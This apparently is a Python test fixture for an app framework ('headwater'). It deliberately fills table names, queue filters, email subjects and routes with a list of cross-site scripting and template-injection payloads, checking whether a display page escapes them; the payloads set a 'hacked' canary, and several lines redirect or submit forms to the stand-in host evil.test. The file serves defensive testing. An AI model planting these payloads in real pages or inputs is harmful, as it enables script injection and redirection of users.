"""An app whose every name and payload that a stranger can choose is an attack on the page that shows it.

Served beside the five applications; `hacked` is what a script of the page would set.
"""

from typing import Any, Literal

from pydantic import BaseModel

from headwater import App, Event, Tracked, email

ATTACKS = (
    "<script>window.hacked=1</script>",
    "</script><script>window.hacked=1</script>",
    '"><img src=x onerror="window.hacked=1">',
    "'><svg onload=window.hacked=1>",
    "</textarea></title></pre></svg><iframe srcdoc='<script>parent.hacked=1</script>'>",
    '" autofocus onfocus="window.hacked=1" x="',
    "javascript:window.hacked=1",
    "{{ 7 * 191 }}${7 * 191}{% raw %}#{7 * 191}",
    "<style>*{display:none}</style><base href='//evil.test/'><meta http-equiv=refresh content=0;url=//evil.test>",
    "<form action=//evil.test><button>x</button></form>\u202e\u2028&lt;b&gt;",
)
ATTACK = " ".join(ATTACKS)
UNTOLD = "what nobody is to see"
"""The value of a field that the settings hide."""


class Note(BaseModel):
    id: str
    group: str
    text: str
    more: dict[str, Any] = {}
    secret_note: str = ""


app = App("hostile")
notes = app.table("notes", Note, key="id", indexes={"by-group": ("group", "id")})
jobs = app.queue("jobs", dict, max_receives=1, fifo=True)
waiting = app.queue("waiting", dict)
news = app.topic("news", dict)
files = app.bucket("files", max_size=1 << 20, versions=True)
late = app.topic("late", dict)
vendor = app.service("vendor", base_url="http://127.0.0.1:9")
orders = app.operation("orders", dict, dict, service=vendor, every="1h", overdue="3d")
app.alarm("jobs-dead", jobs.dead_letters, above=0)
app.schedule("1d", name="nightly").to(news)
news.to(waiting, match={"kind": ["<script>window.hacked=1</script>"]})
late.to(email("ops@example.org", subject="Late: {text}"))


@app.on(jobs)
async def work(event: Event[dict[str, Any]]) -> None:
    raise ValueError(f"it failed: {event.data['text']}")


@app.on(notes)
async def announce(change: Any) -> None:
    await news.publish({"kind": "note", "text": change.data.text})
    await orders.request(change.data.id, {"text": change.data.text})


@orders.on_start
async def start(op: Tracked[dict[str, Any]]) -> Any:
    raise ValueError(f"no vendor: {op.subject}")


@orders.on_poll
async def poll(op: Tracked[dict[str, Any]]) -> Any:
    raise ValueError(f"no vendor: {op.subject}")


@orders.on_answer
def judge(answer: dict[str, Any]) -> Literal["pending"]:
    return "pending"


@app.http.get("/things/{thing}")
async def thing(thing: str) -> dict[str, str]:
    return {"thing": thing}
